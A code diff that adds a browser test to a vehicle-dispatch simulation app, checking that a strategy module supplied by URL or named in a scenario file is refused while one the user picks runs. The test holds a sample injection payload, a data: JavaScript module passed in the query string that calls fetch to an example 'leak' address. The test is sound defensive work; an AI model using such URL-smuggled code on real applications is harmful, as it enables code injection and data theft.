@@ -180,3 +180,29 @@ test('a results folder of zhigang batch opens as the report zhigang report write
   await expect(page.locator('#report')).toBeHidden();
   expect(errors).toEqual([]);
 });
+
+test('a link or a scenario file never makes the app run code; a module picked as a file does', async ({ page }) => {
+  const outside: string[] = [];
+  page.on('request', (r) => !r.url().startsWith('http://localhost') && !r.url().startsWith('blob:') && !r.url().startsWith('data:,') && outside.push(r.url()));
+  // a strategy named by URL: refused with a line, the scenario's own strategy runs instead
+  const payload = encodeURIComponent('data:text/javascript,fetch("https://example.org/leak");export default {name:"evil",decide(){return []}}');
+  const errors = await open(page, `?scenario=demo-small&lang=en&strategy=${payload}`);
+  await expect(page.locator('#status')).toContainText('?strategy=data:text/javascript');
+  await expect(page.locator('#status')).toContainText('a strategy module runs only from a file you pick in the scenario panel');
+  await expect(page.locator('#scenario-line')).toContainText('First come, first served');
+  // a scenario naming a module: refused in the panel, with its JSON path
+  await page.locator('[data-tab="scenario"]').click();
+  const scenario = JSON.parse(readFileSync('scenarios/demo-small.json', 'utf8'));
+  scenario.dispatch.strategy = './mine.js';
+  await page.locator('#upload-scenario').setInputFiles({ name: 'with-module.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(scenario)) });
+  await expect(page.locator('#scenario-errors')).toContainText('with-module.json: $.dispatch.strategy: names a strategy module ("./mine.js"); the app runs code only from a file you pick');
+  // a module the user picks: it runs, in the worker
+  await page.locator('#scenario-select').selectOption('demo-small');
+  const mine = `export default { name: 'picked-by-hand', decide(s) { const free = s.vehicles.filter((v) => v.free); return s.jobs.slice(0, free.length).map((j, k) => ({ vehicle: free[k].index, job: j.id })); } };`;
+  await page.locator('#strategy-module').setInputFiles({ name: 'mine.js', mimeType: 'text/javascript', buffer: Buffer.from(mine) });
+  await expect(page.locator('#scenario-line')).toContainText('picked-by-hand');
+  await page.waitForFunction((t0) => window.zhigang!.timeS() > t0, await simTime(page));
+  expect(page.url()).not.toContain('mine.js'); // a link never carries code
+  expect(outside).toEqual([]);
+  expect(errors).toEqual([]);
+});
